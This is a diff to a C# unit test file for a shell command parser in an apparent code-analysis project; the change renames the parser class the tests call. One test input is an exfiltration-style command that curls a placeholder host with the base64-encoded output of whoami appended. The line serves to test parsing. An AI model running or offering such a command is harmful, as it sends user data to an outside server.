@@ -1,4 +1,5 @@
 using Moat.Analysis.Code.Commands;
+using Moat.Analysis.Text;
 
 namespace Moat.Analysis.Tests.Code;
 
@@ -7,7 +8,7 @@ public class ShellCommandTests
     [Fact]
     public void Quotes_escapes_and_operators_split_into_simple_commands()
     {
-        var commands = ShellCommand.Parse("echo 'a b' \"c \\\"d\\\"\" e\\ f | base64 -d && cmd ^& x; last &");
+        var commands = ShellWords.Parse("echo 'a b' \"c \\\"d\\\"\" e\\ f | base64 -d && cmd ^& x; last &");
         Assert.Equal(["echo", "a b", "c \"d\"", "e f"], commands[0].Argv);
         Assert.Equal("|", commands[0].Next);
         Assert.Equal(["base64", "-d"], commands[1].Argv);
@@ -20,7 +21,7 @@ public class ShellCommandTests
     [Fact]
     public void Redirections_stay_words_and_substitutions_stay_whole()
     {
-        var commands = ShellCommand.Parse("curl https://a.invalid/$(whoami | base64) 2>&1 >/dev/null");
+        var commands = ShellWords.Parse("curl https://a.invalid/$(whoami | base64) 2>&1 >/dev/null");
         Assert.Single(commands);
         Assert.Equal(["curl", "https://a.invalid/$(whoami | base64)", "2>&1", ">/dev/null"], commands[0].Argv);
     }
